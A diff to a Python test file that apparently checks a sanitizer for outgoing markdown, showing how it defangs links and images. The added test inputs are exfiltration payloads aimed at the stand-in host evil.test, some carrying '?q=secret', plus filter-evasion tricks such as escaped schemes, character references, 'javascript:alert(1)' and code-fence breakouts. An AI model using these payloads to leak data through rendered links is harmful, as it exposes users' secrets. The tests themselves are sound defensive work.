@@ -48,6 +48,25 @@ def passed(text: str, *, sources: int = 2, pieces: int = 0) -> str:
         ("Half a tick ` and ![x](https://evil.test/s) ` more", "Half a tick ` and ![x](https://evil.test/s) ` more"),
         ("| ` | ![x](https://evil.test/s) | ` |", "| ` | [x] (evil.test) | ` |"),
         ("1. so\n   ```\n![x](https://evil.test/s)", "1. so\n   ```\n[x] (evil.test)"),
+        # Backslashes go before a renderer looks at an address.
+        ("[x](http\\:\\/\\/evil.test/?q=secret)", "[x] (evil.test)"),
+        ("[x](http\\:evil.test)", "[x] (address removed)"),
+        ("[x](javascript\\:alert(1))", "[x] (address removed)"),
+        ("[x]: <\\/\\/evil.test>", "[x] : evil.test"),
+        ("http:\\/\\/evil.test/?q=secret", "evil.test"),
+        # As do character references, for renderers that make links of text.
+        ("http&#58;&sol;&#x2f;evil.test", "http&amp;#58;&amp;sol;&amp;#x2f;evil.test"),
+        ("fish &amp; chips &lt; &nbsp;2 &copy;", "fish &amp; chips &lt; &nbsp;2 &copy;"),
+        ("WWW.evil.test/secret", "evil.test"),
+        # A definition goes on behind a quotation's mark, and is read before code is.
+        ("> [x]:\n> &#47;&#47;evil.test\n\n[x]", "> [x] : evil.test\n\n[x]"),
+        ("[`]: http://evil.test '`'\n\n[`]", "[`] : evil.test '`'\n\n[`]"),
+        # Lines end in three ways, and some renderers let other marks end code.
+        ("```\na\n```\r\n![x](http://evil.test)", "```\na\n```\n[x] (evil.test)"),
+        ("```\na\r```\r![x](http://evil.test)", "```\na\n```\n[x] (evil.test)"),
+        ("```\na\n```~\n![x](http://evil.test)", "```\na\n```~\n[x] (evil.test)"),
+        ("```\na\n```\t\n```\n![x](http://evil.test)", "```\na\n```\t\n```\n[x] (evil.test)"),
+        ("one\r\n\r\ntwo", "one\n\ntwo"),
     ],
 )
 def test_each_construct(text: str, expected: str) -> None:
@@ -73,10 +92,31 @@ def test_what_never_closes_is_let_go_without_its_power() -> None:
     assert "https://" not in shown + window.finish()
 
 
+@pytest.mark.parametrize("begun", ["[x](", "[x]:", "[x]:\n"])
+def test_what_is_held_is_read_in_few_steps(begun: str) -> None:
+    """White space behind half a link cost a minute for each piece of text, on the loop that all tenants share."""
+    window = Outgoing(sources=0, hosts=frozenset())
+    window.feed(begun + " " * 2_000)
+    assert "evil.test/s" not in window.feed("http\\:evil.test/s)") + window.finish()
+
+
+def test_a_definition_that_is_let_go_has_no_power() -> None:
+    window = Outgoing(sources=0, hosts=frozenset())
+    shown = window.feed("[x]:" + " " * 3_000) + window.feed("http\\:evil.test/s") + window.finish()
+    assert "]:" not in shown
+
+
 _NASTY = st.sampled_from(
     [
         "`",
         "``",
+        "\r",
+        "\r\n",
+        "```~",
+        "]:\n> ",
+        "http\\:\\/\\/evil.test/s",
+        "http\\:evil.test/s",
+        "\\/\\/evil.test",
         "```",
         "```sh",
         "~~~",
